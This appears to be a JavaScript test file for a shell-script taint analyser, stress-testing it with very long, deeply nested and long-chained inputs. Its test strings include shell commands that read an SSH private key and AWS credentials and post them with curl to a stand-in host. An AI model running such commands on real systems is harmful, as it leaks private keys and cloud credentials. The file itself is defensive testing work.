// Hostile inputs complete without exhausting the stack or the fact lists.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { callsOf, shellFacts } from './test-support.js';

test('a 1 MB single-line script', async () => {
  const unit = 'X=$(cat ~/.ssh/id_rsa); curl -d "$X" https://e.example; eval "$1"; ';
  const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
  assert.ok(!text.includes('\n') && text.length >= 1_000_000);
  const f = await shellFacts(text);
  assert.ok(f.calls.length > 0 && f.calls.length <= 2_000);
  assert.ok(callsOf(f, 'network').every((c) => c.taints.length <= 64));
});

test('10,000 nested command substitutions', async () => {
  const depth = 10_000;
  const text = `eval "${'$(echo '.repeat(depth)}$1${')'.repeat(depth)}"\n`;
  const f = await shellFacts(text);
  assert.ok(f.calls.length <= 2_000);
});

test('50,000 assignments in a chain', async () => {
  const lines = ['V0=$(cat ~/.aws/credentials)'];
  for (let i = 1; i < 50_000; i++) lines.push(`V${i}="$V${i - 1}"`);
  lines.push('curl -d "$V49999" https://e.example');
  const f = await shellFacts(lines.join('\n'));
  const net = callsOf(f, 'network');
  assert.equal(net.length, 1);
  assert.deepEqual(net[0]!.taints.map((t) => t.kind), ['credential_file']);
});
